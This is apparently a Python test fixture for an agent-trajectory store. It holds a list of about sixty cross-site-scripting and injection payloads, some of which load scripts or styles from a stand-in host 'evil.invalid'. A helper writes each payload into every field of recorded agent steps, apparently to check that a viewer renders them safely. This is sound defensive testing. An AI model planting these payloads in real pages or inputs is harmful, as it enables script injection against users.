"""Sixty well-known ways in which text becomes code, markup or a request, each with what it would leave behind.

Kinds: script tags, event handlers, SVG and MathML, addresses, broken out attributes, mutations of parsers, templates,
control characters and encodings, Markdown, CSS, escapes of terminals.
"""

import msgspec

from agent_layer.schema.record import TokenIds
from agent_layer.schema.reward import Reward
from agent_layer.schema.step import Action, Observation, PromptDelta, StepState
from agent_layer.schema.task import Task
from agent_layer.schema.training import Vocabulary
from agent_layer.state.vocabularies import store_vocabulary

from ..builders import attempt, call, closed_group, content
from ..stored import write_segment

__all__ = ["ATTRIBUTES", "ELEMENTS", "HOSTILE", "NAMES", "WATCH", "store_texts"]

_RUN = "window.owned=1;alert(1)"
_AWAY = "//evil.invalid"

HOSTILE = (
    f"<script>{_RUN}</script>",
    f"<script src={_AWAY}/x.js></script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script type=module>import '{_AWAY}/m.js'</script>",
    f"<script/x>{_RUN}</script/x>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f'{{"a":"</script><script>{_RUN}</script>"}}',
    f"<img src=x onerror={_RUN}>",
    f'<img src="{_AWAY}/i.png">',
    f"<img/src/onerror={_RUN}>",
    f"<img src=x:x onerror\n=\n{_RUN}>",
    f"<img srcset='{_AWAY}/a.png 1x' src>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}><option>a</select>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<div style='animation-name:slide' onanimationstart={_RUN}>",
    f"<a onmouseover={_RUN} href=#>over</a>",
    f"<button popovertarget=x>p</button><p popover id=x onbeforetoggle={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>t</text></a>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}></svg>#x'/>",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>m</maction></math>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"<a href=javascript:{_RUN}>click</a>",
    f"<iframe src=javascript:parent.{_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<object data='{_AWAY}/o'></object><embed src='{_AWAY}/e'>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}/'>",
    f"<base href={_AWAY}/><link rel=stylesheet href={_AWAY}/s.css>",
    f"<form action={_AWAY}/f><button autofocus>go</button></form>",
    f'" onfocus={_RUN} autofocus x="',
    f"' onmouseover='{_RUN}' x='",
    f"</pre></code></textarea></title></style></noscript><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<template><script>{_RUN}</script></template><slot onslotchange={_RUN}>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}${{{_RUN}}}<%= {_RUN} %>#{{{_RUN}}}",
    f'{{"__html":"<img src=x onerror={_RUN}>","__proto__":{{"owned":1}}}}',
    f"\x00<img\x00 src=x onerror={_RUN}>\ufeff\u2028\u2029",
    f"\u202e<script>{_RUN}</script>\u202c \uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62; %3Cscript%3E{_RUN}%3C/script%3E",
    f"[click](javascript:{_RUN}) ![i]({_AWAY}/i.png) <javascript:{_RUN}>",
    f"</style><style>@import '{_AWAY}/c.css';*{{background:url({_AWAY}/b.png)}}</style>",
    f"\x1b]8;;http:{_AWAY}\x07link\x1b]8;;\x07\x1b[2J\x1b]0;owned\x07\x9b31m",
)
NAMES = ["javascript:alert~1", "data:text~html", "constructor", "hasOwnProperty", "toString", "x1~.~._:-"]
"""What the rules for names allow and programs stumble over."""
WATCH = "window.broken = []; addEventListener('securitypolicyviolation', event => window.broken.push(event.blockedURI))"
ELEMENTS = "[...document.querySelectorAll('main *')].map(one => one.tagName + (one.closest('svg') ? ' in svg' : ''))"
ATTRIBUTES = """[...document.querySelectorAll('*')].flatMap(one => [...one.attributes].filter(
  ({name, value}) => /^on|^srcdoc$/i.test(name)
    || (/^(href|src|action|data|xlink:href)$/i.test(name) && !/^(#|[a-z/-]+\\.(js|css|svg)$)/i.test(value)))
  .map(({name, value}) => `${one.tagName} ${name}=${value}`))"""


def store_texts(store, group, run, texts):
    """Store an attempt with a step for each text, which is prompt, answer, tool, argument, output, agent and error."""
    name = f"{group}.0-0"
    pieces = [text.encode() for text in texts]
    vocabulary = Vocabulary(
        tokenizer_hash=group, sizes=TokenIds([len(one) for one in pieces]), content=b"".join(pieces)
    )
    store_vocabulary(store.keys, store.objects, vocabulary)
    records = []
    for number, text in enumerate(texts):
        words = content(name, msgspec.json.encode({"role": "user", "name": text, "content": text}))
        tool = {"id": "c", "type": "function", "function": {"name": text, "arguments": text}}
        answer = {"role": "assistant", "content": text, "reasoning": text, "tool_calls": [tool]}
        action = Action(message=answer, response_token_ids=TokenIds([number]), finish_reason=text)
        fields = {"run": run, "agent": text, "model": text, "engine": text, "error": text}
        records += [
            words,
            *call(
                name,
                str(number),
                action,
                at=2.0 + number,
                prompt=PromptDelta(delta=TokenIds([number])),
                state=StepState(messages=[words.hash]),
                tokenizer_hash=group,
                capture_level="tokens",
                **fields,
            ),
            Observation(
                trajectory_id=name,
                run=run,
                observation_id=str(number),
                call_id=f"{name}/{number}",
                name=text,
                at=2.5 + number,
                arguments=text,
                output=f"{text} was seen",
                status="ok",
            ),
            Reward(
                trajectory_id=name, run=run, reward_id=str(number), at=90.0, name=f"n{number}", score=0.0, comment=text
            ),
        ]
    task = Task(id=run, run=run, input="\n".join(texts), labels={text: text for text in texts})
    started = {"task": task, "task_id": run, "task_type": texts[0], "worker": texts[10], "labels": task.labels}
    write_segment(
        store,
        *attempt(name, *records, run=run, group_id=group, **started),
        closed_group(group, name, run=run, task_id=run, num_launched=1, group_size=1),
    )
